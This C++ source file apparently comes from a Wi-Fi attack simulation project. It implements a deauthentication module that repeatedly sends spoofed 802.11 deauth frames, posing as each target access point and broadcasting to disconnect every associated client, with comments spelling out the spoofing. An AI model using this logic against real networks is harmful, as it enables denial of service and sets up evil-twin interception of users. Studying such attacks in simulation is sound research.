#include "core/deauth.h"

namespace cityhunter::core {

DeauthModule::DeauthModule(medium::Medium& medium, medium::Radio& radio,
                           Config cfg)
    : medium_(medium), radio_(radio), cfg_(std::move(cfg)) {}

void DeauthModule::start() {
  if (running_) return;
  running_ = true;
  schedule_round(support::SimTime::zero());
}

void DeauthModule::stop() {
  running_ = false;
  ++generation_;
}

void DeauthModule::schedule_round(support::SimTime delay) {
  medium_.events().post_in(delay, [this, generation = generation_] {
    if (generation == generation_) round();
  });
}

void DeauthModule::round() {
  for (const auto& bssid : cfg_.target_bssids) {
    // Spoof the AP: addr2 (transmitter) and addr3 (BSSID) are the victim
    // AP's address; addr1 broadcast reaches every associated client.
    radio_.transmit(dot11::make_deauth(
        bssid, dot11::MacAddress::broadcast(), bssid,
        dot11::ReasonCode::kDeauthLeaving, seq_ = (seq_ + 1) & 0x0fff));
    ++sent_;
  }
  schedule_round(cfg_.interval);
}

}  // namespace cityhunter::core
